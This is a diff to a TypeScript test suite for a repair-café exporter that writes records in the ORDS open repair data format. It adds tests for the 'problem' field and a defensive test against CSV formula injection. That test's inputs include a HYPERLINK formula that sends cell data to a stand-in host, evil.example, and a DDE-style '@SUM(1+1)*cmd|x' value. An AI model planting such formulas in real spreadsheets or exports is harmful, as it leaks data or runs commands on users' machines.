@@ -11,7 +11,7 @@ import { ORDS_FIELDS, ordsRecords, ordsRow, toOrdsCsv } from './ords';
 import type { OrdsRecord } from './ords';
 import { ORDS_SCHEMA_FIELDS, ordsEnum, ordsValidationSchema } from './ordsSchema';
 import ordsPackage from './ords-tableschema-v0.3-202507.json';
-import { EVENTS, SHOP } from './testItems';
+import { at, code, EVENTS, SHOP } from './testItems';
 
 const ITEMS = figureItemsFromEvents(EVENTS);
 const OPTIONS = {
@@ -93,7 +93,7 @@ describe('ordsRecords', () => {
         repair_status: 'End of life',
         repair_barrier_if_end_of_life: '',
         event_date: '2026-11-12',
-        problem: '',
+        problem: 'veiligheidstest niet geslaagd / afgekeurd: onveilig',
       },
       {
         ...common,
@@ -104,7 +104,7 @@ describe('ordsRecords', () => {
         repair_status: 'End of life',
         repair_barrier_if_end_of_life: 'Spare parts too expensive',
         event_date: '2026-11-14',
-        problem: '',
+        problem: 'werkt niet / afgekeurd: onderdelen te duur',
       },
     ]);
     expect(records.map((r) => Object.keys(r))).toEqual(records.map(() => [...ORDS_FIELDS]));
@@ -117,12 +117,50 @@ describe('ordsRecords', () => {
     ]);
   });
 
+  it('gives every record a problem: what the workshop noted and why it gave the item up', () => {
+    const noted = [
+      ...EVENTS,
+      at('2026-11-13T08:30:00Z', 'item.inspected', code('F'), {
+        visual: 'damaged',
+        complete: true,
+        note: 'Motor ruikt verbrand',
+      }),
+    ];
+    const records = ordsRecords(figureItemsFromEvents(noted), AUTUMN, OPTIONS);
+    expect(records.find((r) => r.id === ID(15))?.problem).toBe(
+      'Motor ruikt verbrand / werkt niet / afgekeurd: onderdelen te duur',
+    );
+    expect(records.map((r) => r.problem)).not.toContain('');
+  });
+
   it('refuses an id prefix the schema pattern would refuse', () => {
     expect(() => ordsRecords(ITEMS, NOVEMBER, { ...OPTIONS, idPrefix: 'Bewaar_' })).toThrow();
   });
 });
 
 describe('toOrdsCsv against the validator', () => {
+  it('writes brands, problems and shop names that start like a formula as text', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const events = EVENTS.map((e) =>
+      e.type === 'item.registered' && e.subject === code('A')
+        ? { ...e, data: { ...e.data, brand: evil } }
+        : e.type === 'item.repaired'
+          ? { ...e, data: { ...e.data, fault: '@SUM(1+1)*cmd|x', action: '-2+3\n=1+1' } }
+          : e,
+    );
+    const csv = toOrdsCsv(figureItemsFromEvents(events), AUTUMN, {
+      ...OPTIONS,
+      siteName: (id: string) => (id === SHOP ? '+1+1' : id),
+    });
+    const cells = Papa.parse<string[]>(csv.trim(), { newline: '\n' }).data.flat();
+    // Every cell that a spreadsheet would run starts with the quote that makes it text.
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${evil}`);
+    expect(cells).toContain("'+1+1");
+    expect(cells.some((cell) => cell.startsWith("'@SUM(1+1)*cmd|x"))).toBe(true);
+    expect(await problems(csv)).toEqual([]);
+  });
+
   it('validates: names and order, types, patterns, enums, unique ids', async () => {
     const csv = toOrdsCsv(ITEMS, AUTUMN, OPTIONS);
     expect(csv.startsWith('id,data_provider,country,')).toBe(true);
